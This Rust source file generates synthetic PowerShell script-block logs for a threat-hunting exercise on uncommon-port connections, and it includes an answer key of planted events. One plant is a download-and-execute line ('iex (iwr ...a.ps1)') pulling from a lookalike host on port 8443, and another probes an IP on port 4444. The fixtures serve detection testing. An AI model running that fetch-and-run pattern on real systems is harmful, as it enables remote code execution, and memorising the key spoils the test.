//! PowerShell 4104 script-block logging in `PowerShellScriptBlock_CL`, with background script
//! blocks and the planted `Test-NetConnection` calls the T1571 hunt must find (and look-alikes).

use std::path::Path;

use crate::event_table::{self, Kind, Row};
use crate::network_session::{DAY1, END, SECOND};
use crate::rng::Rng;

const DAYS: i64 = 3;

const HOSTS: [&str; 8] = ["WS-FIN-023", "WS-HR-041", "WS-ENG-088", "WS-OPS-004", "WS-FIN-099", "SRV-APP-10", "SRV-BACKUP-09", "WS-DEV-012"];

fn random_time(rng: &mut Rng) -> i64 {
    END - DAYS * 86_400 * SECOND + rng.range(0, DAYS * 86_400 - 1) * SECOND
}

fn planted_time(minute: i64) -> i64 {
    DAY1 + (9 * 60 + minute) * 60 * SECOND
}

// ---- PowerShell script blocks --------------------------------------------------------------

const POWERSHELL_COLUMNS: [(&str, Kind); 7] = [
    ("Computer", Kind::Str),
    ("EventID", Kind::Int),
    ("ScriptBlockText", Kind::Str),
    ("ScriptBlockId", Kind::Str),
    ("Path", Kind::Str),
    ("MessageNumber", Kind::Int),
    ("MessageTotal", Kind::Int),
];

const BENIGN_SCRIPTS: [&str; 8] = [
    "Get-ChildItem -Path C:\\Logs -Filter *.log | Where-Object { $_.LastWriteTime -lt (Get-Date).AddDays(-30) } | Remove-Item",
    "Import-Module ActiveDirectory; Get-ADUser -Filter * -SearchBase 'OU=Finance,DC=contoso,DC=com'",
    "Get-Service -Name Spooler | Restart-Service -Force",
    "$env:PSModulePath -split ';'",
    "Test-Connection -ComputerName fileserver01 -Count 1 -Quiet",
    "Get-WmiObject -Class Win32_LogicalDisk | Select-Object DeviceID, FreeSpace",
    "Set-ExecutionPolicy -Scope Process -ExecutionPolicy Bypass -Force",
    "Get-NetTCPConnection -State Listen | Sort-Object LocalPort",
];

/// Planted script blocks: (host, text, what the hunt must do).
pub const POWERSHELL_PLANTS: &[(&str, &str, &str)] = &[
    ("WS-FIN-023", "Test-NetConnection -ComputerName 45.77.65.211 -Port 4444 -InformationLevel Quiet", "found: uncommon port 4444"),
    (
        "WS-HR-041",
        "$r = Test-NetConnection -ComputerName files.contoso-cdn.net -port 8443\nif ($r.TcpTestSucceeded) { iex (iwr http://files.contoso-cdn.net:8443/a.ps1) }",
        "found: uncommon port 8443",
    ),
    ("WS-OPS-004", "Test-NetConnection -ComputerName www.microsoft.com -Port 443 -InformationLevel Detailed", "ignored: port 443"),
    ("WS-OPS-004", "Test-NetConnection -ComputerName intranet.contoso.com -Port 80 | Select-Object TcpTestSucceeded", "ignored: port 80"),
    ("WS-ENG-088", "Test-NetConnection -ComputerName dc01.contoso.com", "ignored: no -Port"),
    ("WS-ENG-088", "Test-Connection -ComputerName 10.0.0.1 -Count 1", "ignored: not Test-NetConnection"),
];

fn script_block(rng: &mut Rng, time: i64, host: &str, text: &str) -> Row {
    let id = format!(
        "{:08x}-{:04x}-4{:03x}-a{:03x}-{:012x}",
        rng.next_u64() as u32,
        rng.below(0x10000),
        rng.below(0x1000),
        rng.below(0x1000),
        rng.below(1 << 48)
    );
    Row { time, cells: vec![host.into(), 4104.into(), text.into(), id.into(), "".into(), 1.into(), 1.into()] }
}

pub fn write_powershell(out: &Path, rows: usize, seed: u64) -> Result<String, String> {
    let mut rng = Rng::new(seed);
    let mut events = Vec::with_capacity(rows + POWERSHELL_PLANTS.len());
    for _ in 0..rows {
        let host = *rng.pick(&HOSTS);
        let text = *rng.pick(&BENIGN_SCRIPTS);
        let time = random_time(&mut rng);
        events.push(script_block(&mut rng, time, host, text));
    }
    for (i, (host, text, _)) in POWERSHELL_PLANTS.iter().enumerate() {
        events.push(script_block(&mut rng, planted_time(5 * i as i64 + 3), host, text));
    }
    let n = event_table::write(out, &POWERSHELL_COLUMNS, events)?;
    Ok(format!("wrote {n} PowerShell script blocks ({} planted) to {}", POWERSHELL_PLANTS.len(), out.display()))
}
